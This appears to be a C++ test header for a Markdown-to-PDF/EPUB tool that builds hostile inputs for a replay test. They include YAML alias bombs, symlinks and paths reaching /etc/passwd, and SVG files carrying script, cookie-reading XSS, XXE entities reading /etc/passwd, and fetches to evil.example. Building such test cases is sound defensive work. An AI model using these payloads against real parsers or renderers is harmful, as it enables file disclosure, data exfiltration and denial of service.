// Hostile and careless inputs, made on the fly (never committed as large files):
// the cases of issue 17's cost table, the escapes and the pages that used to lose
// text. Shared by the replay test (tests/integration/hostile), its generator tool
// (hostile_generate DIR, for measuring with /usr/bin/time) and the fuzz replays,
// which take the Markdown and YAML ones as seeds (scaled down).
#pragma once

#include <cstddef>
#include <filesystem>
#include <fstream>
#include <string>
#include <utility>
#include <vector>

namespace booklet::test {

struct HostileCase {
    std::string name;
    std::vector<std::pair<std::string, std::string>> files;     // relative path -> bytes
    std::vector<std::pair<std::string, std::string>> symlinks;  // relative link -> target
    std::string manifest = "booklet.yaml";                       // relative, or absolute (/dev/zero)
    std::vector<std::string> args;                               // extra build arguments
    std::vector<std::pair<std::string, std::string>> env;       // extra environment
    enum class Expect { output, error, either } expect = Expect::either;
    bool same_words = false;     // the PDF and the EPUB must hold the same words
    std::string forbidden;          // text that must not reach the PDF or the EPUB ("" = none)
    std::string forbidden_stderr;   // text that must not appear in the diagnostics ("" = none)
};

// Writes the case's files and symbolic links into `dir`, emptied first.
inline void materialise(const HostileCase& c, const std::filesystem::path& dir) {
    namespace fs = std::filesystem;
    fs::remove_all(dir);
    fs::create_directories(dir);
    for (const auto& [name, bytes] : c.files) {
        fs::create_directories((dir / name).parent_path());
        std::ofstream(dir / name, std::ios::binary) << bytes;
    }
    for (const auto& [link, target] : c.symlinks) {
        fs::create_directories((dir / link).parent_path());
        fs::create_symlink(target, dir / link);
    }
}

inline std::string repeat(const std::string& s, std::size_t n) {
    std::string out;
    out.reserve(s.size() * n);
    for (std::size_t i = 0; i < n; ++i) out += s;
    return out;
}

inline std::string manifest_for(const std::string& pages, const std::string& extra = "") {
    return "title: Hostile\nlanguage: en\ndate: 2025-01-01\n" + extra + "pages: [" + pages + "]\n";
}

// A billion-laughs YAML: `levels` anchors, each a list of ten aliases of the one
// before, under `key`.
inline std::string alias_bomb(int levels, const std::string& key = "bomb") {
    std::string y = key + ":\n  a0: &a0 [\"lol\"]\n";
    for (int i = 1; i <= levels; ++i) {
        y += "  a" + std::to_string(i) + ": &a" + std::to_string(i) + " [";
        for (int k = 0; k < 10; ++k) y += std::string(k ? ", " : "") + "*a" + std::to_string(i - 1);
        y += "]\n";
    }
    return y;
}

// Eleven SVG files that each try one way to carry active or outside content.
inline std::vector<std::pair<std::string, std::string>> hostile_svgs() {
    const std::string open = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" "
                             "width=\"100\" height=\"50\" viewBox=\"0 0 100 50\">";
    const std::string box = "<rect x=\"5\" y=\"5\" width=\"90\" height=\"40\" fill=\"#3a6\"/>";
    return {
        {"onload.svg", open.substr(0, open.size() - 1) + " onload=\"alert(1)\">" + box + "</svg>"},
        {"script.svg", open + box + "<script>alert(document.cookie)</script></svg>"},
        {"cdata-script.svg", open + "<script type=\"text/ecmascript\"><![CDATA[fetch('https://evil.example/x')]]></script>" + box + "</svg>"},
        {"entity-js.svg", open + "<a xlink:href=\"&#106;avascript:alert(1)\">" + box + "</a></svg>"},
        {"external-dtd.svg", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg SYSTEM \"file:///etc/passwd\">\n" + open + box + "</svg>"},
        {"entity-file.svg", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n" +
                                open + "<text x=\"5\" y=\"20\">&xxe;</text></svg>"},
        {"beacon-image.svg", open + "<image href=\"https://evil.example/beacon.png\" width=\"10\" height=\"10\"/>" + box + "</svg>"},
        {"foreign-object.svg", open + "<foreignObject width=\"100\" height=\"50\"><div xmlns=\"http://www.w3.org/1999/xhtml\" "
                                      "onclick=\"alert(1)\">hi</div></foreignObject>" + box + "</svg>"},
        {"css-url.svg", open + "<style>rect{fill:url(https://evil.example/f)}</style><rect width=\"9\" height=\"9\" "
                               "style=\"fill:url(http://evil.example/g)\"/>" + box + "</svg>"},
        {"animate-href.svg", open + "<a href=\"#\"><set attributeName=\"href\" to=\"javascript:alert(1)\"/>" + box +
                                  "</a><animate xlink:href=\"#x\" attributeName=\"onclick\" to=\"alert(1)\"/></svg>"},
        {"use-external.svg", open + "<use xlink:href=\"file:///etc/passwd#x\"/><use href=\"https://evil.example/s.svg#a\"/>" +
                                 box + "<iframe src=\"https://evil.example\"/></svg>"},
    };
}

// A page that uses every hostile SVG, with a word between them.
inline std::string svg_page() {
    std::string page = "# Drawings\n\n";
    for (const auto& [name, body] : hostile_svgs()) page += "Picture " + name.substr(0, name.size() - 4) + ":\n\n![a drawing](" + name + ")\n\n";
    return page;
}

inline std::string nested_quotes(int depth) {
    std::string s;
    for (int d = 1; d <= depth; ++d) s += repeat("> ", static_cast<std::size_t>(d)) + "level" + std::to_string(d) + " words stay\n" + repeat(">", static_cast<std::size_t>(d)) + "\n";
    return "# Quotes\n\n" + s;
}

inline std::string wide_table(int columns) {
    std::string head = "|", rule = "|", row = "|";
    for (int c = 0; c < columns; ++c) {
        head += " h" + std::to_string(c) + " |";
        rule += "---|";
        row += " cell" + std::to_string(c) + " |";
    }
    return "# Table\n\n" + head + "\n" + rule + "\n" + row + "\n" + row + "\n";
}

inline std::string unbreakable_runs() {
    std::string calls, nbsp;
    for (int i = 0; i < 43; ++i) calls += "w" + std::to_string(i) + "( ";
    for (int i = 0; i < 43; ++i) nbsp += std::string(i ? "\xC2\xA0" : "") + "word" + std::to_string(i);
    return "# Runs\n\nBefore " + calls + " after.\n\nNext " + nbsp + " end.\n";
}

// Every case: a clear result (output or an error naming file:line) is what the
// replay test asks of each, within its time and memory ceilings.
inline std::vector<HostileCase> hostile_cases() {
    std::vector<HostileCase> cases;
    const auto page_case = [&](std::string name, std::string page, bool same_words = false) {
        HostileCase c;
        c.name = std::move(name);
        c.files = {{"booklet.yaml", manifest_for("page.md")}, {"page.md", std::move(page)}};
        c.same_words = same_words;
        cases.push_back(std::move(c));
    };
    using E = HostileCase::Expect;

    // Cost.
    {
        HostileCase c;
        c.name = "alias-bomb-manifest";
        c.files = {{"booklet.yaml", manifest_for("page.md") + alias_bomb(9)}, {"page.md", "# Hi\n"}};
        c.expect = E::error;
        cases.push_back(c);
        c.name = "alias-bomb-unknown-key";
        c.files = {{"booklet.yaml", alias_bomb(9, "titel") + manifest_for("page.md")}, {"page.md", "# Hi\n"}};
        cases.push_back(c);
        c.name = "alias-bomb-front-matter";
        c.files = {{"booklet.yaml", manifest_for("page.md")}, {"page.md", "---\n" + alias_bomb(9) + "---\n# Hi\n"}};
        cases.push_back(c);
        c.name = "alias-bomb-style";
        c.files = {{"booklet.yaml", manifest_for("page.md", "style: bomb.yaml\n")},
                   {"page.md", "# Hi\n"},
                   {"bomb.yaml", "extends: booklet\n" + alias_bomb(9, "x-bomb")}};
        cases.push_back(c);
    }
    page_case("www-autolinks", "# Links\n\n" + repeat("www.a.", 100000) + "\n");
    page_case("image-brackets", "# Brackets\n\n" + repeat("![[]()", 100000) + "\n");
    page_case("div-openers", "# Divs\n\n" + repeat("<div>", 100000) + "\n");
    page_case("emphasis-openers", "# Openers\n\n" + repeat("[ a_", 100000) + "\n");
    page_case("many-refs", "# Refs\n\n" + repeat("[x][r] ", 100000) + "\n\n[r]: https://example.org/one\n");
    page_case("combining-marks", "# Marks\n\na" + repeat("\xCC\x81", 100000) + " end\n");
    // Openers that never close: each was once read ahead up to 256 KiB (minutes).
    page_case("unclosed-braces", "# Braces\n\n" + repeat("{", 1000000) + "\n");
    page_case("unclosed-component-tags", "# Tags\n\n" + repeat("<Box a={\n", 100000) + "\nText.\n");
    page_case("long-link-text", "# Link\n\n[" + repeat("word ", 5000) + "](https://example.org/a)\n");
    page_case("long-url", "# URL\n\n" + repeat("[see](https://example.org/" + repeat("x", 45000) + ") ", 3) + "\n");
    {
        HostileCase c;
        c.name = "huge-page";
        c.files = {{"booklet.yaml", manifest_for("page.md")}, {"page.md", "# Huge\n\n" + repeat("All work and no play. ", 2400000)}};
        c.expect = E::error;
        cases.push_back(c);
        c.name = "source-date-epoch-year-10000";
        c.files = {{"booklet.yaml", manifest_for("page.md")}, {"page.md", "# Hi\n\nText.\n"}};
        c.env = {{"SOURCE_DATE_EPOCH", "253402300800"}};
        cases.push_back(c);
        c.name = "source-date-epoch-negative";
        c.env = {{"SOURCE_DATE_EPOCH", "-1"}};
        cases.push_back(c);
    }

    // Text that used to be lost.
    page_case("deep-quotes", nested_quotes(20), true);
    page_case("unbreakable-runs", unbreakable_runs(), true);
    page_case("wide-table", wide_table(500), true);
    {
        HostileCase c;
        c.name = "tiny-font";
        c.files = {{"booklet.yaml", manifest_for("page.md")}, {"page.md", "# Hi\n\nText.\n"}};
        c.args = {"--set", "body.size=0.0001pt"};
        c.expect = E::error;
        cases.push_back(c);
    }

    // Escapes.
    {
        HostileCase c;
        c.name = "symlinked-page";
        c.files = {{"booklet.yaml", manifest_for("\"posts/*.md\"")}, {"posts/a.md", "# A\n\nFine.\n"}};
        c.symlinks = {{"posts/b.md", "/etc/passwd"}};
        c.forbidden = "root:x:0:0";
        cases.push_back(c);
        c.name = "symlinked-image";
        c.files = {{"booklet.yaml", manifest_for("page.md")}, {"page.md", "# A\n\n![secret](pic.png)\n\n![up](../../../../../../../../etc/passwd)\n"}};
        c.symlinks = {{"pic.png", "/usr/share/pixmaps/debian-logo.png"}};
        c.forbidden = "root:x:0:0";
        cases.push_back(c);
        c.name = "glob-symlink-loop";
        c.files = {{"booklet.yaml", manifest_for("\"loop/*/*/*/*/*/*/*/*/*.md\"")}, {"one.md", "# One\n\nOnce.\n"}};
        c.symlinks = {{"loop", "."}, {"loop2", "."}, {"loop3", "."}};
        c.expect = E::either;
        cases.push_back(c);
        c.name = "etc-passwd-manifest";
        c.files = {};
        c.symlinks = {};
        c.manifest = "/etc/passwd";
        c.expect = E::error;
        c.forbidden_stderr = "nologin";
        cases.push_back(c);
        c.name = "dev-zero-manifest";
        c.manifest = "/dev/zero";
        c.forbidden_stderr = "";
        cases.push_back(c);
    }
    {
        HostileCase c;
        c.name = "hostile-svgs";
        c.files = {{"booklet.yaml", manifest_for("page.md")}, {"page.md", svg_page()}};
        for (const auto& f : hostile_svgs()) c.files.push_back(f);
        c.forbidden = "evil.example";
        c.same_words = true;
        cases.push_back(c);
    }
    return cases;
}

}  // namespace booklet::test
